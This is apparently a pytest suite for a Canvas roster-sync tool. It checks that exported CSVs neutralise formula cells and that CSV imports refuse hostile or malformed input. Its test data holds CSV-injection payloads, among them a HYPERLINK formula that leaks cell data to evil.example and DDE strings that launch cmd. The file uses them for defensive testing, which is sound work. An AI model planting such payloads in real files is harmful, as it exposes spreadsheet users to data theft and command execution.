"""Attacks through CSV files: formulas in what we export, hostile cells and bytes in what we import.

Everything from Canvas is untrusted text. A spreadsheet runs a cell that starts with = + - @, a tab or a
carriage return as a formula (OWASP "CSV injection"); every CSV the product writes neutralises such cells.
"""

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rostersync.canvas.models import CanvasCourse, CanvasEnrollment, CanvasUser
from rostersync.csv_output import FORMULA_STARTS, csv_text
from rostersync.grades.csvfile import GradeCsvError, parse_grades_csv
from rostersync.models import SyncError, SyncErrorCode, TenantSettings, UserIdField
from rostersync.sync.reports import sync_errors_csv
from rostersync.sync.roster import WHAT_TO_DO, build_course_roster
from rostersync.tenant_settings import parse_course_list_csv
from rostersync.tenants import TenantError
from rostersync_cli.main import main

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
DDE_PLUS = "+cmd|' /C calc'!A0"
ARITHMETIC_MINUS = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB_PREFIXED = "\t=1+1"
CR_PREFIXED = "\r=1+1"
FULL_WIDTH_EQUALS = "\uff1d1+1"
SPACE_PREFIXED = "  =1+1"
FORMULA_PAYLOADS = {
    "hyperlink": HYPERLINK,
    "dde_plus": DDE_PLUS,
    "arithmetic_minus": ARITHMETIC_MINUS,
    "at_sum": AT_SUM,
    "tab_prefixed": TAB_PREFIXED,
    "cr_prefixed": CR_PREFIXED,
    "full_width_equals": FULL_WIDTH_EQUALS,
    "space_prefixed": SPACE_PREFIXED,
}
RECORDED = datetime(2026, 3, 1, tzinfo=UTC)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def raw_row(*values: str) -> str:
    """A CSV line as an attacker writes it: the cells quoted as needed, nothing neutralised."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(values)
    return out.getvalue()


def assert_no_formula_cell(text: str) -> None:
    for row in cells(text):
        for cell in row:
            assert cell[:1] not in FORMULA_STARTS and cell.lstrip()[:1] not in FORMULA_STARTS, (cell, row)


def sync_error(message: str, code: str = "canvas_error") -> SyncError:
    return SyncError(
        tenant_id="t", run_id="r", course_id=7, user_id=9, code=code, message=message, recorded_at=RECORDED
    )


# -- export: the sync-errors CSV (CLI `sync errors --format csv`, `GET /admin/errors?format=csv`, the page) --
@pytest.mark.parametrize("payload", FORMULA_PAYLOADS.values(), ids=FORMULA_PAYLOADS.keys())
def test_formula_payload_in_a_sync_error_reaches_the_csv_as_text(payload: str) -> None:
    rows = cells(sync_errors_csv([sync_error(payload, code=payload)]))
    assert rows[1][3] == rows[1][4] == f"'{payload}"  # the value kept whole, shown as text
    assert_no_formula_cell(sync_errors_csv([sync_error(payload, code=payload)]))


def test_harmless_cells_are_written_unchanged() -> None:
    rows = cells(sync_errors_csv([sync_error('Dr. "Who", 3rd\nline', code="missing_identifier")]))
    assert rows == [
        ["run_id", "course_id", "user_id", "code", "message", "recorded_at"],
        ["r", "7", "9", "missing_identifier", 'Dr. "Who", 3rd\nline', RECORDED.isoformat()],
    ]


def _missing_identifier_message(name: str) -> str:
    course = CanvasCourse(id=1, name="Course", workflow_state="available")
    enrollment = CanvasEnrollment(
        id=5, user_id=9, course_id=1, type="StudentEnrollment", role="StudentEnrollment",
        enrollment_state="active", user=CanvasUser(id=9, name=name),
    )  # fmt: skip
    roster = build_course_roster(course, [], [enrollment])
    (problem,) = roster.problems
    return problem.message


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS.values(), ids=FORMULA_PAYLOADS.keys())
def test_formula_payload_as_a_display_name_does_not_start_the_sync_error_message(payload: str) -> None:
    message = _missing_identifier_message(payload)
    assert (
        message == f"user 9 ({payload!r}) has no sis_user_id: {WHAT_TO_DO[SyncErrorCode.MISSING_IDENTIFIER]}"
    )


canvas_text = st.one_of(
    st.sampled_from(sorted(FORMULA_PAYLOADS.values())),
    st.builds(lambda start, rest: start + rest, st.sampled_from(sorted(FORMULA_STARTS)), st.text()),
    st.text(),
)


@settings(max_examples=300, deadline=None)
@given(
    names=st.lists(canvas_text, min_size=1, max_size=4),
    emails=st.lists(st.none() | canvas_text, min_size=4, max_size=4),
    title=canvas_text,
    id_field=st.sampled_from([UserIdField.SIS_USER_ID, UserIdField.EMAIL, UserIdField.LOGIN_ID]),
)
def test_no_cell_of_the_sync_errors_csv_starts_a_formula_whatever_canvas_sends(
    names: list[str], emails: list[str | None], title: str, id_field: UserIdField
) -> None:
    """Names, e-mails (which also serve as identifiers) and course titles straight from Canvas."""
    course = CanvasCourse(id=1, name=title, original_name=title, workflow_state="available")
    users = [
        CanvasUser(id=index + 10, name=name, email=emails[index], sis_user_id=emails[index], login_id=name)
        for index, name in enumerate(names)
    ]
    enrollments = [
        CanvasEnrollment(
            id=index + 100,
            user_id=user.id,
            course_id=1,
            type="StudentEnrollment",
            role="StudentEnrollment",
            enrollment_state="active",
            user=user,
        )
        for index, user in enumerate(users)
    ]
    roster = build_course_roster(course, [], enrollments, users, TenantSettings(user_id_field=id_field))
    errors = [
        SyncError(tenant_id="t", run_id=title, course_id=1, user_id=problem.user_id, code=problem.code,
                  message=problem.message, recorded_at=RECORDED)
        for problem in roster.problems
    ] + [sync_error(f"{title}: {names[0]}", code=roster.course.name)]  # fmt: skip
    written = sync_errors_csv(errors)
    assert_no_formula_cell(written)
    assert len(cells(written)) == len(errors) + 1


@settings(max_examples=300, deadline=None)
@given(rows=st.lists(st.lists(canvas_text | st.none(), min_size=3, max_size=3), max_size=5))
def test_every_csv_cell_reads_back_as_its_value_or_its_value_marked_as_text(
    rows: list[list[str | None]],
) -> None:
    written = csv_text(["a", "b", "c"], rows)
    assert_no_formula_cell(written)
    for wrote, read in zip(rows, cells(written)[1:], strict=True):
        for value, cell in zip(wrote, read, strict=True):
            assert cell in {value or "", f"'{value}"}


# -- import: the course-list and grades CSVs --------------------------------------------------------------
@pytest.mark.parametrize("payload", FORMULA_PAYLOADS.values(), ids=FORMULA_PAYLOADS.keys())
def test_formula_payload_in_a_course_list_is_refused_not_listed(payload: str) -> None:
    with pytest.raises(TenantError, match="not a Canvas course id"):
        parse_course_list_csv(f"course_id\n101\n{raw_row(payload)}")


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS.values(), ids=FORMULA_PAYLOADS.keys())
def test_formula_payload_as_a_grades_csv_score_is_refused(payload: str) -> None:
    with pytest.raises(GradeCsvError, match=r"line 2: score .* is not a number"):
        parse_grades_csv("student,score\n" + raw_row("s1", payload))


@pytest.mark.parametrize("score", ["nan", "NaN", "inf", "-Infinity", "1e999", "-1e999"])
def test_non_finite_score_in_a_grades_csv_is_refused(score: str) -> None:
    with pytest.raises(GradeCsvError, match=f"line 2: score '{score}' is not a number"):
        parse_grades_csv(f"student,score\ns1,{score}\n")


@pytest.mark.parametrize("parse", [parse_grades_csv, parse_course_list_csv])
def test_a_csv_field_over_the_csv_modules_limit_is_refused_with_the_parsers_own_error(parse: object) -> None:
    oversized = 'student,score\n"' + "x" * 200_000 + '",1\n'
    with pytest.raises((GradeCsvError, TenantError), match="too long"):
        parse(oversized)  # type: ignore[operator]


# -- files the CLI is given -------------------------------------------------------------------------------
COURSE_LIST = "course_id\n101\nsis_course_id:CHEM-101\n"
GRADES = "student,score\ns1,80\n"
UNREADABLE = {
    "utf16_course_list": lambda text: text.encode("utf-16"),
    "latin1_course_list": lambda text: (text + "caf\u00e9\n").encode("latin-1"),
    "utf16_without_bom": lambda text: text.encode("utf-16-le"),
}


def _commands(path: Path, state_dir: Path) -> dict[str, list[str]]:
    base = ["--state-dir", str(state_dir)]
    return {
        "courses_import": [*base, "courses", "import", "--tenant", "t", "--mode", "add", str(path)],
        "grades_push": [*base, "grades", "push", "--tenant", "t", "--course", "1", "--assignment", "Quiz",
                        "--csv", str(path)],
        "events_replay": [*base, "events", "replay", "--tenant", "t", str(path)],
    }  # fmt: skip


def _run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = main(argv)
    return code, capsys.readouterr().err


@pytest.mark.parametrize("command", ["courses_import", "grades_push", "events_replay"])
@pytest.mark.parametrize("encode", UNREADABLE.values(), ids=UNREADABLE.keys())
def test_non_utf8_file_given_to_the_cli_is_one_line_and_exit_1(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str, encode: object
) -> None:
    path = tmp_path / "input.csv"
    path.write_bytes(encode(COURSE_LIST if command == "courses_import" else GRADES))  # type: ignore[operator]
    code, err = _run(_commands(path, tmp_path / "no-stack")[command], capsys)
    assert code == 1
    assert err.count("\n") == 1 and "Traceback" not in err, err
    assert f"{path} is not UTF-8 text" in err, err


@pytest.mark.parametrize("command", ["courses_import", "grades_push", "events_replay"])
@pytest.mark.parametrize("kind", ["missing", "directory"])
def test_a_file_the_cli_cannot_open_is_one_line_and_exit_1(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str, kind: str
) -> None:
    path = tmp_path / "input.csv"
    if kind == "directory":
        path.mkdir()
    code, err = _run(_commands(path, tmp_path / "no-stack")[command], capsys)
    assert code == 1
    assert err.count("\n") == 1 and "Traceback" not in err, err
    assert f"cannot read {path}" in err, err


@pytest.mark.parametrize("mark", [b"", b"\xef\xbb\xbf"], ids=["plain", "after_a_utf8_byte_order_mark"])
def test_latin1_file_given_to_the_cli_is_refused_naming_the_first_byte_that_is_not_utf8(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], mark: bytes
) -> None:
    path = tmp_path / "courses.csv"
    path.write_bytes(mark + "course_id\n101\nsis_course_id:Caf\u00e9\n".encode("latin-1"))
    code, err = _run(_commands(path, tmp_path / "no-stack")["courses_import"], capsys)
    assert code == 1 and f"{path} is not UTF-8 text (byte 0xe9 on line 3)" in err, err


def test_a_utf8_file_with_a_byte_order_mark_is_read_as_utf8(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Excel's "CSV UTF-8" starts with a BOM: the file is read and parsed, then the missing stack stops it."""
    path = tmp_path / "courses.csv"
    path.write_bytes(COURSE_LIST.encode("utf-8-sig"))
    code, err = _run(_commands(path, tmp_path / "no-stack")["courses_import"], capsys)
    assert code == 1 and "no local stack is running" in err, err


@pytest.mark.parametrize("points", ["nan", "inf", "-inf", "1e999"])
def test_non_finite_points_possible_on_the_cli_is_refused_in_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], points: str
) -> None:
    path = tmp_path / "grades.csv"
    path.write_text(GRADES)
    argv = [*_commands(path, tmp_path / "no-stack")["grades_push"], f"--points={points}"]
    code, err = _run(argv, capsys)
    assert code == 1 and err.count("\n") == 1, err
    assert "invalid grade batch: points_possible: Input should be a finite number" in err, err
